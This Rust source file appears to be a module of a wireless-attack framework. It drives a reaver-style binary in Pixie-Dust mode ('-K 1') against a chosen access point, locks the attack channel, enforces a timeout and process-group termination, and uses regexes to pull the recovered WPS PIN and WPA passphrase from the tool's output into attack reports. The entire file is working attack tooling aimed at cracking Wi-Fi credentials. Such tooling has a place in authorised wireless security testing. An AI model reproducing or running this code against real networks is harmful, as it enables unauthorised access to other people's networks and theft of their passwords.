//! WPS Pixie-Dust driver.
//!
//! Orchestrates an external binary (reaver-style) against one AP: the
//! target channel is locked for the whole attack, the child runs in
//! its own process group so stop can signal everything it forked, and
//! its line-oriented output is scanned for the recovered PIN/PSK.

use std::sync::{Arc, RwLock};
use std::time::Duration;

use regex::Regex;
use tokio::sync::{broadcast, mpsc};
use tokio_util::sync::CancellationToken;
use uuid::Uuid;

use crate::capture::LockArbiter;
use crate::model::{AttackKind, AttackState, AttackStatusReport, EngineEvent, Mac, WpsConfig};
use crate::ports::{ChildProcess, ProcessRunner};

use super::{validate_channel, AttackError, AttackTable};

/// Per-attack output log cap.
const LOG_CAP_BYTES: usize = 500 * 1024;

fn pin_regex() -> &'static Regex {
    static RE: std::sync::OnceLock<Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| Regex::new(r#"WPS PIN:\s*['"]?([0-9]+)"#).unwrap())
}

fn psk_regex() -> &'static Regex {
    static RE: std::sync::OnceLock<Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| Regex::new(r#"WPA PSK:\s*['"]?([^'"]+)"#).unwrap())
}

fn valid_interface_name(name: &str) -> bool {
    static RE: std::sync::OnceLock<Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| Regex::new(r"^[A-Za-z0-9_-]{1,16}$").unwrap())
        .is_match(name)
}

fn validate(config: &WpsConfig) -> Result<(), AttackError> {
    if config.bssid == Mac::ZERO {
        return Err(AttackError::InvalidConfig("bssid is required".into()));
    }
    validate_channel(config.channel)?;
    if !valid_interface_name(&config.interface) {
        return Err(AttackError::InvalidConfig(format!(
            "invalid interface name: {:?}",
            config.interface
        )));
    }
    if config.timeout_secs == 0 {
        return Err(AttackError::InvalidConfig(
            "timeout must be positive".into(),
        ));
    }
    Ok(())
}

/// Bounded accumulation of child output.
struct LogBuffer {
    text: String,
    truncated: bool,
}

impl LogBuffer {
    fn new() -> LogBuffer {
        LogBuffer {
            text: String::new(),
            truncated: false,
        }
    }

    fn push(&mut self, line: &str) {
        if self.text.len() + line.len() + 1 > LOG_CAP_BYTES {
            if !self.truncated {
                self.truncated = true;
                self.text.push_str("[log truncated]\n");
            }
            return;
        }
        self.text.push_str(line);
        self.text.push('\n');
    }
}

enum ChildOutcome {
    Success { pin: String, psk: Option<String> },
    Failed(String),
}

/// Read the child to EOF, scanning for PIN/PSK, then collect its exit
/// status.
async fn drive_child(
    child: &mut Box<dyn ChildProcess>,
    log: &mut LogBuffer,
    sink: Option<&mpsc::Sender<String>>,
) -> ChildOutcome {
    let mut pin = None;
    let mut psk = None;

    while let Some(line) = child.read_line().await {
        log::debug!("wps child: {line}");
        log.push(&line);
        if let Some(sink) = sink {
            let _ = sink.try_send(line.clone());
        }
        if pin.is_none() {
            if let Some(captures) = pin_regex().captures(&line) {
                pin = Some(captures[1].to_string());
            }
        }
        if psk.is_none() {
            if let Some(captures) = psk_regex().captures(&line) {
                psk = Some(captures[1].to_string());
            }
        }
    }

    let exit = match child.wait().await {
        Ok(code) => code,
        Err(err) => return ChildOutcome::Failed(format!("wait failed: {err}")),
    };
    match pin {
        Some(pin) => ChildOutcome::Success { pin, psk },
        None if exit != 0 => ChildOutcome::Failed(format!("exited with code {exit}, no PIN")),
        None => ChildOutcome::Failed("exited without recovering a PIN".into()),
    }
}

pub struct WpsEngine {
    runner: Arc<dyn ProcessRunner>,
    arbiter: Arc<LockArbiter>,
    table: Arc<AttackTable>,
    logs: Arc<RwLock<std::collections::HashMap<Uuid, String>>>,
    cancel_root: CancellationToken,
}

impl WpsEngine {
    pub fn new(
        runner: Arc<dyn ProcessRunner>,
        arbiter: Arc<LockArbiter>,
        max_concurrent: usize,
        events: broadcast::Sender<EngineEvent>,
        cancel_root: CancellationToken,
    ) -> WpsEngine {
        WpsEngine {
            runner,
            arbiter,
            table: Arc::new(AttackTable::new(max_concurrent, events)),
            logs: Arc::new(RwLock::new(std::collections::HashMap::new())),
            cancel_root,
        }
    }

    /// Validate, take the channel lock, and launch the driver task.
    /// Lock conflicts surface here, synchronously — a busy interface
    /// never enters the active map.
    pub fn start(
        &self,
        config: WpsConfig,
        log_sink: Option<mpsc::Sender<String>>,
    ) -> Result<Uuid, AttackError> {
        validate(&config)?;
        self.arbiter
            .lock(&config.interface, config.channel)
            .map_err(|err| AttackError::InvalidConfig(err.to_string()))?;

        let cancel = self.cancel_root.child_token();
        let id = match self.table.insert_pending(AttackKind::Wps, cancel.clone()) {
            Ok(id) => id,
            Err(err) => {
                self.arbiter.unlock(&config.interface);
                return Err(err);
            }
        };

        let runner = self.runner.clone();
        let arbiter = self.arbiter.clone();
        let table = self.table.clone();
        let logs = self.logs.clone();

        tokio::spawn(async move {
            table.set_running(&id);
            log::info!(
                "wps {id}: pixie-dust against {} on channel {} via {}",
                config.bssid,
                config.channel,
                config.interface
            );

            let args = vec![
                "-i".to_string(),
                config.interface.clone(),
                "-b".to_string(),
                config.bssid.to_string(),
                "-c".to_string(),
                config.channel.to_string(),
                "-K".to_string(),
                "1".to_string(),
            ];
            let deadline = Duration::from_secs(config.timeout_secs);
            let mut log = LogBuffer::new();

            let (state, pin, psk, error) =
                match runner.spawn_in_group(&config.binary, &args).await {
                    Err(err) => (
                        AttackState::Failed,
                        None,
                        None,
                        format!("spawn failed: {err}"),
                    ),
                    Ok(mut child) => {
                        let driven = {
                            let driven =
                                drive_child(&mut child, &mut log, log_sink.as_ref());
                            tokio::pin!(driven);
                            tokio::select! {
                                _ = cancel.cancelled() => None,
                                outcome = tokio::time::timeout(deadline, &mut driven) => {
                                    Some(outcome)
                                }
                            }
                        };
                        match driven {
                            None => {
                                child.signal_group(libc::SIGTERM);
                                (AttackState::Stopped, None, None, String::new())
                            }
                            Some(Err(_elapsed)) => {
                                child.signal_group(libc::SIGTERM);
                                (
                                    AttackState::Timeout,
                                    None,
                                    None,
                                    format!("deadline of {}s elapsed", config.timeout_secs),
                                )
                            }
                            Some(Ok(ChildOutcome::Success { pin, psk })) => {
                                (AttackState::Success, Some(pin), psk, String::new())
                            }
                            Some(Ok(ChildOutcome::Failed(message))) => {
                                (AttackState::Failed, None, None, message)
                            }
                        }
                    }
                };

            arbiter.unlock(&config.interface);
            logs.write().unwrap().insert(id, log.text);
            table.update(&id, |report| {
                report.end_time = Some(chrono::Utc::now());
                report.recovered_pin = pin.clone();
                report.recovered_psk = psk.clone();
                if !report.state.is_terminal() {
                    report.state = state;
                    report.error_message = error.clone();
                }
            });
            if state == AttackState::Success {
                log::info!("wps {id}: PIN recovered");
            }
        });
        Ok(id)
    }

    pub fn stop(&self, id: &Uuid) -> Result<(), AttackError> {
        self.table.halt(id, AttackState::Stopped)
    }

    pub fn status(&self, id: &Uuid) -> Option<AttackStatusReport> {
        self.table.status(id)
    }

    pub fn list(&self) -> Vec<AttackStatusReport> {
        self.table.list()
    }

    pub fn attack_log(&self, id: &Uuid) -> Option<String> {
        self.logs.read().unwrap().get(id).cloned()
    }

    /// Janitor sweep: drop terminal attacks older than `age` and their
    /// logs.
    pub fn janitor_sweep(&self, age: Duration, now: chrono::DateTime<chrono::Utc>) {
        self.table.cleanup_older_than(age, now);
        let live: std::collections::HashSet<Uuid> =
            self.table.list().iter().map(|report| report.id).collect();
        self.logs.write().unwrap().retain(|id, _| live.contains(id));
    }
}
